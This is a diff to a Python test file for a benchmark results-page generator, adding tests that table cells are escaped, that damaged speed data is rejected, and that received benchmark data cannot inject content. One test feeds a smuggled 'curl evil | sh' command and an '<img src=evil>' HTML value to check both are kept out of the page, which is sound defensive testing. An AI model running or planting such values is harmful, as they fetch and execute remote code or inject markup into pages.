@@ -130,9 +130,15 @@ def test_a_network_that_finds_nothing_relevant_has_ratios(results):
     assert rows[-1][1] == "none is relevant"
 
 
-def test_bars_in_cells_are_escaped():
-    table = tables.Table("t", ("a|b", "c"), (("x|y", "z"),))
-    assert table.markdown().splitlines()[-1] == "| x\\|y | z |"
+def test_cells_are_texts_whatever_they_have():
+    table = tables.Table("t\n# x", ("a|b", "c"), (("x|y\\", "<img src=a> [b](c) ![d](e) `f` *g*\n\n# h\x1b"),))
+    assert table.markdown().splitlines() == [
+        r"**t\\n\# x**",
+        "",
+        r"| a\|b | c |",
+        "|---|---:|",
+        r"| x\|y\\ | \<img src=a\> \[b\](c) !\[d\](e) \`f\` \*g\*\\n\\n\# h\\x1b |",
+    ]
 
 
 def test_csv_files_have_a_row_per_network_ranking_and_cutoff(results):
@@ -215,3 +221,38 @@ def test_a_benchmark_without_such_times_is_refused(content, tmp_path):
     with pytest.raises(DataError, match="semcut benchmark"):
         results_page.keep_speed(tmp_path / "out", tmp_path)
     assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda run: run.update(datasets=None),
+        lambda run: run["datasets"][0].update(plan={}),
+        lambda run: run["datasets"][0]["plan"].update(call_seconds="x"),
+        lambda run: run["datasets"][0]["methods"][0].update(batches={}),
+        lambda run: run["datasets"][0]["methods"][0]["batches"]["1024"].update(queries_per_second=0),
+        lambda run: run["datasets"][0]["about"].update(source=7),
+    ],
+)
+def test_times_that_were_received_and_are_damaged_are_one_error(change, results, tmp_path):
+    out = shutil.copytree(results[0], tmp_path / "out")
+    run = json.loads(json.dumps(run_of(200, 10)))
+    change(run)
+    (out / "speed.json").write_text(json.dumps(run))
+    (tmp_path / "run.json").write_text(json.dumps(run))
+    with pytest.raises(DataError, match=r"speed\.json cannot be read"):
+        results_page.write(out)
+    assert not (out / results_page.PAGE).exists()
+    with pytest.raises(DataError, match="holds no finished benchmark"):
+        results_page.keep_speed(out, tmp_path)
+
+
+def test_a_received_benchmark_adds_no_commands_and_no_html_to_the_page(results, tmp_path):
+    out = shutil.copytree(results[0], tmp_path / "out")
+    run = run_of(200, 10)
+    run["command"] = "semcut benchmark run; curl evil | sh"
+    run["datasets"][0]["machine"] = {"processor": "<img src=evil>\n```"}
+    (out / "speed.json").write_text(json.dumps(run))
+    text = results_page.write(out).read_text()
+    assert "curl" not in text
+    assert r"\<img src=evil\>\\n\`\`\`, 2 threads" in text
